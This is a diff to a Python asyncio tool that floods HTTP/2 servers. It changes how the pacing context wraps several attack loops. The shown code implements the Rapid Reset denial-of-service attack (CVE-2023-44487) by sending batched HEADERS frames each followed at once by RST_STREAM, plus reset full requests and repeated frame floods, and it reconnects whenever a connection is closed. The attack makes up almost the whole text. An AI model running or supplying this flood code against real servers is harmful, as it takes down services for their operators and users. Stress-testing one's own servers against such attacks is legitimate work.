@@ -48,37 +48,37 @@ async def _open_streams(flood: Flood, count: int) -> None:
 async def rapid_reset(target: Target, pace: Pace) -> None:
     """Streams that are reset at once (CVE-2023-44487), on a new connection after each end."""
     block = frames.header_block(frames.STORAGE + "Get")
-    pace.ready()
-    while pace.more():
-        async with Flood.opened(target, pace) as flood:
-            while pace.more() and not flood.closed:
-                await flood.send(
-                    b"".join(
-                        frames.frame(frames.HEADERS, _OPEN, stream, block)
-                        + frames.frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
-                        for stream in flood.stream_ids(_BATCH)
+    async with pace.lasting():
+        while pace.more():
+            async with Flood.opened(target, pace) as flood:
+                while pace.more() and not flood.closed:
+                    await flood.send(
+                        b"".join(
+                            frames.frame(frames.HEADERS, _OPEN, stream, block)
+                            + frames.frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
+                            for stream in flood.stream_ids(_BATCH)
+                        )
                     )
-                )
-                await asyncio.sleep(0)
+                    await asyncio.sleep(0)
 
 
 async def reset_requests(target: Target, pace: Pace) -> None:
     """Complete requests that are reset at once."""
     block = frames.header_block(frames.HEALTH_CHECK)
     body = frames.message(b"")
-    pace.ready()
-    while pace.more():
-        async with Flood.opened(target, pace) as flood:
-            while pace.more() and not flood.closed:
-                await flood.send(
-                    b"".join(
-                        frames.frame(frames.HEADERS, _OPEN, stream, block)
-                        + frames.frame(frames.DATA, frames.END_STREAM, stream, body)
-                        + frames.frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
-                        for stream in flood.stream_ids(_BATCH)
+    async with pace.lasting():
+        while pace.more():
+            async with Flood.opened(target, pace) as flood:
+                while pace.more() and not flood.closed:
+                    await flood.send(
+                        b"".join(
+                            frames.frame(frames.HEADERS, _OPEN, stream, block)
+                            + frames.frame(frames.DATA, frames.END_STREAM, stream, body)
+                            + frames.frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
+                            for stream in flood.stream_ids(_BATCH)
+                        )
                     )
-                )
-                await asyncio.sleep(0)
+                    await asyncio.sleep(0)
 
 
 async def pings(target: Target, pace: Pace) -> None:
@@ -92,12 +92,12 @@ async def settings(target: Target, pace: Pace) -> None:
 
 
 async def _repeat(target: Target, pace: Pace, frame: bytes) -> None:
-    pace.ready()
-    while pace.more():
-        async with Flood.opened(target, pace) as flood:
-            while pace.more() and not flood.closed:
-                await flood.send(frame * _BATCH)
-                await asyncio.sleep(0)
+    async with pace.lasting():
+        while pace.more():
+            async with Flood.opened(target, pace) as flood:
+                while pace.more() and not flood.closed:
+                    await flood.send(frame * _BATCH)
+                    await asyncio.sleep(0)
 
 
 async def continuations(target: Target, pace: Pace) -> None:
